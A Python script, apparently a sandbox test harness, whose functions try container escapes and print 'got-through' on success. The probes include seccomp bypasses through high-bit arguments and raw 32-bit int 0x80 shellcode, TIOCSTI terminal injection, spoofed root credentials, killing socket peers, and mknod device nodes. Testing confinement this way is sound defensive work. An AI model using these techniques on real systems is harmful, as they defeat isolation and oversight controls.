"""More attempts that need system calls: `tricks.py NAME ARGUMENTS…`. Stands alone; harmless wherever it runs.

Each either prints what it has stolen, or says that it got through.
"""

import ctypes
import errno
import fcntl
import inspect
import mmap
import os
import platform
import signal
import socket
import stat
import struct
import sys
import termios
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

LIBC = ctypes.CDLL(None, use_errno=True)
ARM = platform.machine() == "aarch64"
REFUSALS = (1, 13, 38, 97)  # EPERM, EACCES, ENOSYS, EAFNOSUPPORT
NOWHERE, EMPTY = b"/nonexistent/wand", bytes(256)
BAD_TIME = struct.pack("=qq", 0, 10**12)  # no time that any clock has
# On x86-64 and on arm64, with arguments that can do nothing; what fails for another reason got through.
CALLS: "dict[str, tuple[int, int, tuple[int | bytes, ...]]]" = {
    "settimeofday": (164, 170, (BAD_TIME, 0)), "clock_settime": (227, 112, (0, BAD_TIME)),
    "swapoff": (168, 225, (NOWHERE,)), "setdomainname": (171, 162, (b"x" * 80, 80)),
    "quotactl_fd": (443, 443, (-1, 0x800002, 0, 0)), "fspick": (433, 433, (-100, b"/", 0)),
    "fsmount": (432, 432, (-1, 0, 0)), "move_mount": (429, 429, (-1, b"", -1, b"", 0)),
    "setns": (308, 268, (-1, 0)), "io_uring_register": (427, 427, (-1, 0, 0, 0)),
    "statmount": (457, 457, (struct.pack("=IIQQQ", 24, 0, 1, 1, 0), EMPTY, 256, 0)),
    "listmount": (458, 458, (struct.pack("=IIQQQ", 24, 0, 2**64 - 1, 0, 0), EMPTY, 8, 0)),
    "vhangup": (153, 58, ()), "move_pages": (279, 239, (0, 0, 0, 0, 0, 0)), "fanotify": (300, 262, (0, 0)),
}  # fmt: skip
HIGH = 1 << 32  # what the kernel cuts off an argument that is an int


def through(happened: object = "yes") -> None:
    if happened:
        print("got-" + "through", flush=True)


def say(wrong: object) -> None:
    print("no:", wrong, file=sys.stderr)


def call(x86: int, arm: int, *arguments: object) -> int:
    """The answer of a system call, or minus its errno."""
    passed = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    LIBC.syscall.restype = ctypes.c_long
    answer = int(LIBC.syscall(ctypes.c_long(arm if ARM else x86), *passed))
    return answer if answer != -1 else -ctypes.get_errno()


def reach(name: str) -> None:
    x86, arm, arguments = CALLS[name]
    copies = [ctypes.create_string_buffer(one) if isinstance(one, bytes) else one for one in arguments]
    answer = call(x86, arm, *copies)
    say(answer)
    through(-answer not in REFUSALS)


# -- sockets of kinds that no program needs ------------------------------------------------------------------


def family(number: str, kind: str, protocol: str = "0") -> None:
    socket.socket(int(number), int(kind), int(protocol)).close()
    through()


def high_family(number: str, kind: str, protocol: str) -> None:
    """The same, its number with bits that the kernel does not look at."""
    got = call(41, 198, int(number) + HIGH, int(kind), int(protocol))
    say(got)
    through(got >= 0)


def six(port: str) -> None:
    """What whoever listens on this machine says, asked by IPv6 with the other's address in it."""
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as one:
        one.settimeout(2)
        one.connect(("::ffff:127.0.0.1", int(port)))
        print(one.recv(100))


def fast_open(port: str) -> None:
    """Connect by sending (TCP Fast Open), which is no connect(2)."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as one:
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("=qq", 2, 0))
        one.sendto(b"x", 0x20000000, ("127.0.0.1", int(port)))
        print(one.recv(100))


def multipath(port: str) -> None:
    """The same by MPTCP."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as one:
        one.settimeout(2)
        one.connect(("127.0.0.1", int(port)))
        print(one.recv(100))


def peer(path: str) -> None:
    """Kill whoever listens on a socket that we may connect to, by the handle that the socket gives of it."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as one:
        one.connect(path)
        one.recv(100)  # or it dies of what it cannot say
        pidfd = one.getsockopt(socket.SOL_SOCKET, 77)  # SO_PEERPIDFD
        say(pidfd)
        signal.pidfd_send_signal(pidfd, signal.SIGKILL)
    time.sleep(0.1)


def as_root(path: str) -> None:
    """Say over a socket that we are another process of root's."""
    kind = socket.AF_UNIX, socket.SOCK_DGRAM
    with socket.socket(*kind) as one, socket.socket(*kind) as other:
        other.bind(f"\0{path}")
        other.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)
        told = struct.pack("=iII", 1, 0, 0)
        one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, told)], 0, f"\0{path}")
        through(struct.unpack("=iII", other.recvmsg(1, 64)[1][0][2])[0] == 1)


# -- objects of the kernel that outlive their makers ---------------------------------------------------------


def leave(kind: str, secret: str = "left") -> None:
    """Leave a message where it stays when we are gone."""
    text = secret.encode()
    if kind == "message":
        queue = LIBC.msgget(0x57A4D, 0o1666)
        told = ctypes.create_string_buffer(struct.pack("=q", 1) + text)
        LIBC.msgsnd(queue, told, ctypes.c_size_t(len(text)), 0o4000)
    elif kind == "semaphore":
        LIBC.semget(0x57A4D, 1, 0o1666)
    elif kind == "queue":
        library = ctypes.CDLL("librt.so.1", use_errno=True)
        queue = library.mq_open(b"/wand", os.O_CREAT | os.O_RDWR | os.O_NONBLOCK, 0o666, None)
        library.mq_send(queue, text, ctypes.c_size_t(len(text)), 0)
    elif kind == "key":
        say(call(248, 217, b"user", b"wand", text, len(text), -4))
    elif kind == "port":
        _leave_a_connection()


def find(kind: str) -> None:
    """Read it."""
    room = ctypes.create_string_buffer(9000)
    if kind == "message":
        got = LIBC.msgrcv(LIBC.msgget(0x57A4D, 0), room, ctypes.c_size_t(4096), 0, 0o4000)
        print(room.raw[8 : 8 + max(got, 0)])
    elif kind == "semaphore":
        through(LIBC.semget(0x57A4D, 1, 0) >= 0)
    elif kind == "queue":
        library = ctypes.CDLL("librt.so.1", use_errno=True)
        queue = library.mq_open(b"/wand", os.O_RDONLY | os.O_NONBLOCK)
        say(queue)
        got = library.mq_receive(queue, room, ctypes.c_size_t(9000), None)
        print(room.raw[: max(got, 0)])
    elif kind == "key":
        found = call(250, 219, 10, -4, b"user", b"wand", 0)
        say(found)
        length = call(250, 219, 11, found, room, 4096)
        print(room.raw[: max(length, 0)])
    elif kind == "port":
        through(":A4D0 " in Path("/proc/net/tcp").read_text())


def _leave_a_connection() -> None:
    """A connection that the kernel remembers for a minute."""
    with socket.create_server(("127.0.0.1", 0xA4D0)) as server, socket.socket() as one:
        one.connect(("127.0.0.1", 0xA4D0))
        server.accept()[0].close()
        one.recv(1)


# -- whether something is there at all -----------------------------------------------------------------------


def oracle(how: str, path: str) -> None:
    """Any answer about a file outside but that it is not there."""
    place = Path(path)
    ways: dict[str, Callable[[], object]] = {
        "stat": place.stat, "access": lambda: _allowed(path),
        "open": lambda: os.close(os.open(path, os.O_PATH)), "mkdir": place.mkdir,
        "rename": lambda: place.rename("mine"), "execute": lambda: os.execv(path, ["x"]),
        "change": lambda: place.chmod(0o600), "enter": lambda: os.chdir(path),
        "connect": lambda: socket.socket(socket.AF_UNIX).connect(path),
    }  # fmt: skip
    try:
        ways[how]()
    except FileNotFoundError:
        return
    except OSError as error:
        say(error)
        through(error.errno not in {errno.ENOENT, errno.EROFS})
        return
    through()


def _allowed(path: str) -> None:
    if not os.access(path, os.R_OK):
        raise FileNotFoundError(path)


# -- processes -----------------------------------------------------------------------------------------------


def sibling(flags: str) -> None:
    """A child that is no child of ours: of our parent (CLONE_PARENT), or of nobody that knows it."""
    made = call(56, 220, int(flags, 0) | signal.SIGCHLD, 0, 0, 0, 0)
    if made == 0:
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
            signal.signal(number, signal.SIG_IGN)
        LIBC.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG
        os.setsid()
        for descriptor in (0, 1, 2):
            os.close(descriptor)
        time.sleep(60)
        os._exit(0)
    say(made)


def traced() -> None:
    """Two children that stop one another, of which none can be waited for."""
    first = os.fork()
    if first == 0:
        os.setsid()
        for descriptor in (0, 1, 2):
            os.close(descriptor)
        time.sleep(60)
    second = os.fork()
    if second == 0:
        os.setsid()
        for descriptor in (0, 1, 2):
            os.close(descriptor)
        LIBC.ptrace(0x4206, first, None, None)
        LIBC.ptrace(0x4207, first, None, None)
        time.sleep(60)
    time.sleep(0.2)


def first_served() -> None:
    """A class of disk access before everybody else's."""
    answer = call(251, 30, 1, 0, 1 << 13)
    say(answer)
    through(answer == 0)


# -- filters that look at a part -----------------------------------------------------------------------------


def high_terminal() -> None:
    """Type into a terminal by a number with bits that the kernel does not look at."""
    if os.fork() == 0:
        os.setsid()
        _, terminal = os.openpty()
        fcntl.ioctl(terminal, termios.TIOCSCTTY, 0)
        letter = ctypes.create_string_buffer(b"x")
        through(call(16, 29, terminal, HIGH | termios.TIOCSTI, letter) == 0)
        os._exit(0)
    os.wait()


def cloned(flags: str) -> None:
    """A child in namespaces of its own, by the old call."""
    made = call(56, 220, int(flags, 0) | signal.SIGCHLD, 0, 0, 0, 0)
    if made == 0:
        os._exit(0)
    say(made)
    through(made > 0)


def old_call(number: str, first: str) -> None:
    """A system call by its 32-bit number, which a filter for 64-bit calls does not see."""
    code = b"\x53\xb8" + struct.pack("=I", int(number)) + b"\xbb" + struct.pack("=I", int(first, 0))
    code += b"\x31\xc9\x31\xd2\xcd\x80\x5b\xc3"
    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    memory.write(code)
    answer = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(memory)))()
    say(answer)
    through(-answer not in REFUSALS)


# -- devices, and what is shown of the machine ---------------------------------------------------------------


def device(path: str) -> None:
    """Change a device that every process uses."""
    before = Path(path).stat()
    with suppress(OSError):
        os.utime(path, (1, 1))
    with suppress(OSError):
        Path(path).chmod(0o640)
    after = Path(path).stat()
    with suppress(OSError):
        Path(path).chmod(0o666)  # others use it too
    through((after.st_mode, after.st_mtime) != (before.st_mode, before.st_mtime))


def nodes(*kinds: str) -> None:
    """A block or character device made in every place that can be written."""
    for place in (".", "/tmp", "/dev/shm", str(Path.home())):
        for kind in kinds:
            major, minor = map(int, kind.split(":"))
            with suppress(OSError):
                os.mknod(f"{place}/node", stat.S_IFCHR | 0o666, os.makedev(major, minor))
                with Path(f"{place}/node").open("rb", buffering=0) as opened:
                    through(opened.read(1))


def reads(*paths: str) -> None:
    """Any of these that can be read, and says something."""
    for path in paths:
        with suppress(OSError), Path(path).open("rb") as file:
            if file.read(64).strip(b"\0"):
                say(path)
                through()


def main() -> None:
    table: dict[str, Callable[..., None]] = {
        name: one for name, one in globals().items() if inspect.isfunction(one)
    }
    try:
        table[sys.argv[1]](*sys.argv[2:])
    except (OSError, MemoryError, ValueError) as error:
        sys.exit(f"no: {error}")


main()
